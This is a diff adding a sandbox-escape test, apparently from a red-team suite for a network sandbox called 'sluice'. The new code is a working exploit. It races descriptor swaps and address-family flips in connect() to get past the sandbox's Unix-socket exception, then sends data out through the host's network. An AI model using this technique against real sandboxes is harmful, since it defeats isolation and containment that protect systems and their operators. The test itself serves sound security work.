@@ -639,4 +639,61 @@ def cmd_swap_bind(host, port, bindport, rounds):
     print("swap_bind escaped=%d calls=%d" % (escaped, calls))
 
 
+def cmd_swap_unix(host, port, sink, rounds):
+    """rt-1: the documented exception. With allowAllUnixSockets a connect()
+    to a Unix socket path is handed back to the kernel (CONTINUE), which
+    looks the descriptor number and the address up again. One thread keeps
+    dup2()ing a socket sluice handed over (connected to HOST:PORT) onto the
+    number of a Unix socket of the sandbox's, another keeps flipping the
+    address between a path and AF_UNSPEC: a round where sluice saw the Unix
+    socket and a path, and the kernel then ran the call on the handed-over
+    socket with AF_UNSPEC, disconnects it, and sendto(MSG_FASTOPEN) aims it
+    at SINK from the host's namespace. Prints "swap_unix escaped=N calls=M"
+    (0 is right; the README says this stays open)."""
+    fastopen = getattr(socket, "MSG_FASTOPEN", 0x20000000)
+    libc = ctypes.CDLL(None, use_errno=True)
+    path = b"/nonexistent-sluice-rt1.sock"
+    unix = struct.pack("=H", socket.AF_UNIX) + path + bytes(108 - len(path))
+    buf = ctypes.create_string_buffer(unix, 110)
+    fam_unix = ctypes.create_string_buffer(struct.pack("=H", socket.AF_UNIX), 2)
+    fam_unspec = ctypes.create_string_buffer(struct.pack("=H", socket.AF_UNSPEC), 2)
+    h = socket.create_connection((host, int(port)), timeout=10)
+    own = socket.socket(socket.AF_UNIX)
+    target = os.dup(own.fileno())
+    stop = [False]
+
+    def flip_fd():
+        while not stop[0]:
+            os.dup2(h.fileno(), target)
+            os.dup2(own.fileno(), target)
+
+    def flip_addr():
+        while not stop[0]:
+            ctypes.memmove(buf, fam_unspec, 2)
+            ctypes.memmove(buf, fam_unix, 2)
+
+    ts = [threading.Thread(target=flip_fd), threading.Thread(target=flip_addr)]
+    for t in ts:
+        t.start()
+    calls = escaped = 0
+    for _ in range(int(rounds)):
+        libc.connect(target, buf, 110)
+        calls += 1
+        # TCP_INFO's tcpi_state (getpeername() is answered by sluice)
+        if h.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0] == 7:  # TCP_CLOSE
+            escaped += 1
+            break
+    stop[0] = True
+    for t in ts:
+        t.join()
+    res = ""
+    if escaped:
+        try:
+            h.sendto(b"x", fastopen, ("127.0.0.1", int(sink)))
+            res = " fastopen=ok"
+        except OSError as e:
+            res = " fastopen=%s" % errno.errorcode.get(e.errno, e.errno)
+    print("swap_unix escaped=%d calls=%d%s" % (escaped, calls, res))
+
+
 getattr(sys.modules[__name__], "cmd_" + sys.argv[1])(*sys.argv[2:])
